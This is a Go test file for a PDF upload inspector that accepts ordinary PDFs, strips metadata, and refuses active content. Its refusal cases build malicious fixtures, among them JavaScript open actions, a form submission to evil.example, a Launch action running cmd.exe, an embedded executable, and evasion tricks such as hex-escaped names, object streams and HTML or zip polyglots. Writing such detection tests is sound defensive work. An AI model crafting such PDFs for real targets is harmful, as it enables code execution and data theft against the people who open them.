@@ -1,0 +1,253 @@
+package idcheck
+
+import (
+	"bytes"
+	"io"
+	"strings"
+	"testing"
+
+	"github.com/pdfcpu/pdfcpu/pkg/api"
+	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
+)
+
+func TestInspectPDFAccepts(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name  string
+		data  []byte
+		pages int
+	}{
+		{"one page", buildPDF(pdfSpec{}), 1},
+		{"two pages", buildPDF(pdfSpec{pages: 2}), 2},
+		{"the page limit", buildPDF(pdfSpec{pages: MaxPDFPages}), MaxPDFPages},
+		{"pdf 1.4 header", buildPDF(pdfSpec{header: "%PDF-1.4"}), 1},
+		{"open action to a page", buildPDF(pdfSpec{catalog: "/OpenAction [5 0 R /Fit]"}), 1},
+		{"open action goto", buildPDF(pdfSpec{catalog: "/OpenAction << /S /GoTo /D [5 0 R /Fit] >>"}), 1},
+		{"link annotation to a web page", buildPDF(pdfSpec{
+			page:  "/Annots [6 0 R]",
+			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.rijksoverheid.nl/kopieid) >> >>"},
+		}), 1},
+		{"fonts named like active keys", buildPDF(pdfSpec{resources: "/XObject << /AA 6 0 R /JS 6 0 R /EF 6 0 R >>",
+			extra: []string{streamObject("/Type /XObject /Subtype /Form /BBox [0 0 1 1]", []byte("0 0 m"))},
+		}), 1},
+		{"trailing white space and NULs after %%EOF", append(buildPDF(pdfSpec{}), "\r\n\x00\x00 \n"...), 1},
+		{"scan-to-pdf of a jpeg", scannedPDF(t), 1},
+		{"object and xref streams", objStmPDF(t, "<< /S /GoTo /D [5 0 R /Fit] >>"), 1},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			doc, err := Inspect(tt.data)
+			if err != nil {
+				t.Fatalf("Inspect() = %v", err)
+			}
+			if got, want := doc.Kind, KindPDF; got != want {
+				t.Errorf("Kind = %q, want %q", got, want)
+			}
+			if got, want := doc.Pages, tt.pages; got != want {
+				t.Errorf("Pages = %d, want %d", got, want)
+			}
+			if !bytes.HasPrefix(doc.Data, []byte("%PDF-")) {
+				t.Errorf("sanitised PDF does not start with %%PDF-")
+			}
+			// The rewritten file must itself pass, with the same pages.
+			again, err := Inspect(doc.Data)
+			if err != nil {
+				t.Fatalf("sanitised PDF refused: %v", err)
+			}
+			if got, want := again.Pages, tt.pages; got != want {
+				t.Errorf("sanitised PDF has %d pages, want %d", got, want)
+			}
+		})
+	}
+}
+
+// scannedPDF is a JPEG placed on an A4 page by pdfcpu, like a scanner app's
+// output, so the check is not only tried on PDFs written by buildPDF.
+func scannedPDF(t *testing.T) []byte {
+	t.Helper()
+	var out bytes.Buffer
+	conf := pdfConfig()
+	if err := api.ImportImages(nil, &out, []io.Reader{bytes.NewReader(encodeJPEG(t, noisy(800, 600)))}, nil, conf); err != nil {
+		t.Fatalf("build scanned PDF: %v", err)
+	}
+	return out.Bytes()
+}
+
+func TestInspectPDFStripsMetadata(t *testing.T) {
+	t.Parallel()
+	const secret = "Jan Jansen"
+	xmp := []byte(`<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>` + secret + `</dc:creator></x:xmpmeta><?xpacket end="w"?>`)
+	in := buildPDF(pdfSpec{
+		catalog: "/Metadata 6 0 R",
+		page:    "/PieceInfo << /Illustrator << /Private 7 0 R >> >>",
+		extra: []string{
+			streamObject("/Type /Metadata /Subtype /XML", xmp),
+			streamObject("", []byte("original unmasked page by "+secret)),
+			"<< /Author (" + secret + ") /Title (Paspoort " + secret + ") /Producer (KopieID) >>",
+		},
+		trailer: "/Info 8 0 R",
+	})
+	if got := bytes.Count(in, []byte(secret)); got != 4 {
+		t.Fatalf("fixture holds the secret %d times, want 4", got)
+	}
+	doc, err := Inspect(in)
+	if err != nil {
+		t.Fatalf("Inspect() = %v", err)
+	}
+	for _, banned := range []string{secret, "xmpmeta", "PieceInfo", "KopieID"} {
+		if bytes.Contains(doc.Data, []byte(banned)) {
+			t.Errorf("sanitised PDF still contains %q", banned)
+		}
+	}
+}
+
+func TestInspectPDFRefuses(t *testing.T) {
+	t.Parallel()
+	good := buildPDF(pdfSpec{})
+	withoutEOF := bytes.TrimSuffix(good, []byte("%%EOF\n"))
+	tests := []struct {
+		name string
+		data []byte
+		want string
+	}{
+		{"encrypted with a user password", encryptedPDF(t, "geheim"), CodePDFEncrypted},
+		{"encrypted with an empty user password", encryptedPDF(t, ""), CodePDFEncrypted},
+		{"encrypt entry in the trailer", buildPDF(pdfSpec{trailer: "/Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>"}), CodePDFEncrypted},
+
+		{"javascript open action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"}), CodePDFActiveContent},
+		{"javascript name tree", buildPDF(pdfSpec{catalog: "/Names << /JavaScript << /Names [(a) 6 0 R] >> >>",
+			extra: []string{"<< /S /JavaScript /JS (this.submitForm('https://evil.example')) >>"}}), CodePDFActiveContent},
+		{"javascript in an indirect stream", buildPDF(pdfSpec{catalog: "/OpenAction 6 0 R",
+			extra: []string{"<< /S /JavaScript /JS 7 0 R >>", streamObject("", []byte("app.alert(1)"))}}), CodePDFActiveContent},
+		{"name written with hex escapes", buildPDF(pdfSpec{catalog: "/OpenAction << /S /J#61va#53cript /J#53 (app.alert(1)) >>"}), CodePDFActiveContent},
+		{"launch action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"}), CodePDFActiveContent},
+		{"launch in a link", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
+			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (evil.exe) >> >>"}}), CodePDFActiveContent},
+		{"embedded file", buildPDF(pdfSpec{catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
+			extra: []string{"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
+				streamObject("/Type /EmbeddedFile", []byte("MZ payload"))}}), CodePDFActiveContent},
+		{"file attachment annotation", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
+			extra: []string{"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>",
+				"<< /Type /Filespec /F (x.zip) >>"}}), CodePDFActiveContent},
+		{"page additional actions", buildPDF(pdfSpec{page: "/AA << /O << /S /URI /URI (https://tracker.example/opened) >> >>"}), CodePDFActiveContent},
+		{"uri open action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /URI /URI (https://tracker.example/opened) >>"}), CodePDFActiveContent},
+		{"goto open action chaining a uri", buildPDF(pdfSpec{catalog: "/OpenAction << /S /GoTo /D [5 0 R /Fit] /Next << /S /URI /URI (https://x.example) >> >>"}), CodePDFActiveContent},
+		{"rich media annotation", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
+			extra: []string{"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"}}), CodePDFActiveContent},
+		{"xfa form", buildPDF(pdfSpec{catalog: "/AcroForm << /Fields [] /XFA 6 0 R >>",
+			extra: []string{streamObject("", []byte("<xdp:xdp/>"))}}), CodePDFActiveContent},
+		{"submit form", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
+			extra: []string{"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example) >> >>"}}), CodePDFActiveContent},
+		{"import data", buildPDF(pdfSpec{catalog: "/OpenAction << /S /ImportData /F (data.fdf) >>"}), CodePDFActiveContent},
+		{"javascript in an object missing from the xref", buildPDF(pdfSpec{orphan: "<< /S /JavaScript /JS (app.alert(1)) >>"}), CodePDFActiveContent},
+		{"javascript hidden in an object stream", objectStreamPDF(t), CodePDFActiveContent},
+
+		{"polyglot with a zip appended", append(bytes.Clone(good), zipArchive(t)...), CodePDFActiveContent},
+		{"polyglot with html appended", append(bytes.Clone(good), "<html><script>alert(1)</script></html>"...), CodePDFActiveContent},
+		{"polyglot with a zip inside a stream", buildPDF(pdfSpec{extra: []string{streamObject("", zipArchive(t))}}), CodePDFActiveContent},
+		{"polyglot with html in a dictionary", buildPDF(pdfSpec{extra: []string{"<< /X (<script>alert(1)</script>) >>"}}), CodePDFActiveContent},
+
+		{"too many pages", buildPDF(pdfSpec{pages: MaxPDFPages + 1}), CodePDFTooManyPages},
+
+		{"header only", []byte("%PDF-1.7\n"), CodePDFCorrupt},
+		{"header and eof", []byte("%PDF-1.7\n%%EOF\n"), CodePDFCorrupt},
+		{"no %%EOF", withoutEOF, CodePDFCorrupt},
+		{"junk after %%EOF", append(bytes.Clone(good), "trailing junk"...), CodePDFCorrupt},
+		{"truncated", good[:len(good)/2], CodePDFCorrupt},
+		{"stream never ends", []byte("%PDF-1.7\n1 0 obj\n<< /Length 99 >>\nstream\n/JavaScript\n%%EOF\n"), CodePDFCorrupt},
+		{"no pages", []byte(strings.Join([]string{"%PDF-1.7", "1 0 obj", "<< /Type /Catalog /Pages 2 0 R >>", "endobj",
+			"2 0 obj", "<< /Type /Pages /Kids [] /Count 0 >>", "endobj", "xref", "0 3", "0000000000 65535 f ",
+			"0000000009 00000 n ", "0000000058 00000 n ", "trailer", "<< /Size 3 /Root 1 0 R >>", "startxref", "110", "%%EOF", ""}, "\n")), CodePDFCorrupt},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			doc, err := Inspect(tt.data)
+			if got, want := rejectionCode(t, err), tt.want; got != want {
+				t.Errorf("Inspect() code = %q, want %q", got, want)
+			}
+			if doc != nil {
+				t.Errorf("Inspect() returned a document alongside a refusal")
+			}
+		})
+	}
+}
+
+// TestWalkFindsWhatTheByteScanCannot proves the second layer on its own: in
+// an object stream the action is compressed, so only the parsed walk sees it.
+func TestWalkFindsWhatTheByteScanCannot(t *testing.T) {
+	t.Parallel()
+	hidden := objectStreamPDF(t)
+	if got := scanPDFBytes(hidden); got != "" {
+		t.Fatalf("scanPDFBytes() = %q: the fixture's script is not hidden", got)
+	}
+	if _, err := Inspect(hidden); rejectionCode(t, err) != CodePDFActiveContent {
+		t.Errorf("Inspect() = %v, want %s", err, CodePDFActiveContent)
+	}
+}
+
+// TestWalkPDF checks the parsed walk without pdfcpu's validation in front of
+// it, which would already refuse some of these as malformed.
+func TestWalkPDF(t *testing.T) {
+	t.Parallel()
+	uriAction := "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /AA << /E << /S /URI /URI (https://x.example) >> >> >>"
+	tests := []struct {
+		name string
+		spec pdfSpec
+		want string
+	}{
+		{"plain", pdfSpec{}, ""},
+		{"resource names that look like active keys", pdfSpec{resources: "/XObject << /AA 6 0 R /JS 6 0 R /EF 6 0 R /Screen 6 0 R >>",
+			extra: []string{streamObject("/Type /XObject /Subtype /Form /BBox [0 0 1 1]", []byte("0 0 m"))}}, ""},
+		{"resource category stored as its own object", pdfSpec{resources: "/XObject 6 0 R",
+			extra: []string{"<< /AA 7 0 R /JS 7 0 R >>", streamObject("/Type /XObject /Subtype /Form /BBox [0 0 1 1]", []byte("0 0 m"))}}, ""},
+		{"annotation posing as a font dictionary", pdfSpec{resources: "/Font << /F1 3 0 R >> /XObject 6 0 R",
+			page: "/Annots [6 0 R]", extra: []string{uriAction}}, CodePDFActiveContent},
+		{"annotation posing as a font with escaped keys", pdfSpec{resources: "/XObject 6 0 R",
+			page: "/Annots [6 0 R]", extra: []string{strings.NewReplacer("/Subtype", "/Sub#74ype", "/Type", "/T#79pe").Replace(uriAction)}}, CodePDFActiveContent},
+		{"additional actions", pdfSpec{page: "/AA << /O << /S /URI /URI (https://x.example) >> >>"}, CodePDFActiveContent},
+		{"named open action", pdfSpec{catalog: "/OpenAction << /S /Named /N /Print >>"}, CodePDFActiveContent},
+		{"open action without a type", pdfSpec{catalog: "/OpenAction << /D [5 0 R /Fit] >>"}, CodePDFActiveContent},
+		{"goto open action", pdfSpec{catalog: "/OpenAction << /S /GoTo /D [5 0 R /Fit] >>"}, ""},
+		{"3D annotation", pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>"}}, CodePDFActiveContent},
+		{"sound action as a name value", pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Sound >> >>"}}, CodePDFActiveContent},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			ctx, err := api.ReadContext(bytes.NewReader(buildPDF(tt.spec)), pdfConfig())
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got, want := walkPDF(ctx.XRefTable), tt.want; got != want {
+				t.Errorf("walkPDF() = %q, want %q", got, want)
+			}
+		})
+	}
+}
+
+// objectStreamPDF has a JavaScript open action stored only inside a
+// compressed object stream.
+func objectStreamPDF(t *testing.T) []byte {
+	t.Helper()
+	pdf := objStmPDF(t, "<< /S /JavaScript /JS (app.alert(1)) >>")
+	if bytes.Contains(pdf, []byte("JavaScript")) || !bytes.Contains(pdf, []byte("/ObjStm")) {
+		t.Fatal("the action is not hidden in a compressed object stream")
+	}
+	return pdf
+}
+
+// encryptedPDF is a one-page PDF encrypted with AES-256 by pdfcpu.
+func encryptedPDF(t *testing.T, userPW string) []byte {
+	t.Helper()
+	conf := pdfConfig()
+	conf.UserPW, conf.OwnerPW = userPW, "eigenaar"
+	conf.EncryptUsingAES, conf.EncryptKeyLength = true, 256
+	conf.Permissions = model.PermissionsPrint
+	var out bytes.Buffer
+	if err := api.Encrypt(bytes.NewReader(buildPDF(pdfSpec{})), &out, conf); err != nil {
+		t.Fatalf("encrypt fixture: %v", err)
+	}
+	return out.Bytes()
+}
